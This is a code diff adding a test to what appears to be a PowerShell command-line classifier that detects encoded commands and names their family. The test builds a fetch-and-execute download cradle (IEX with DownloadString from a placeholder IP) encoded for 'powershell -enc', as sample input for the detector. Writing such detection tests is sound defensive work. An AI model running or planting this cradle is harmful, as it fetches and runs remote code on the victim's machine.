@@ -67,3 +67,15 @@ def test_classify_files_and_command_lines(tmp_path):
     objs = [json.loads(line) for line in r.output.splitlines()]
     assert [(o["file"], o["line"], o["obfuscated"]) for o in objs] == [
         ("-", 1, True), ("-", 2, False)]
+
+
+def test_classify_names_the_family_of_what_it_recovered(tmp_path):
+    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"
+    lines = (f"powershell -nop -enc {enc(cradle)}\n"
+             f"powershell -enc {enc(cradle.replace('IEX ', '$page = '))}\n")  # fetched, not run
+    r = CliRunner().invoke(main, ["ps", "classify", "--cmdline", "--json", "-"], input=lines)
+    assert r.exit_code == 0, r.output
+    objs = [json.loads(line) for line in r.output.splitlines()]
+    assert [(o["obfuscated"], o["family"]) for o in objs] == [(True, "downloader"), (True, None)]
+    r = CliRunner().invoke(main, ["ps", "classify", "--cmdline", "-"], input=lines)
+    assert [line.split("\t")[3] for line in r.output.splitlines()] == ["downloader", "-"]
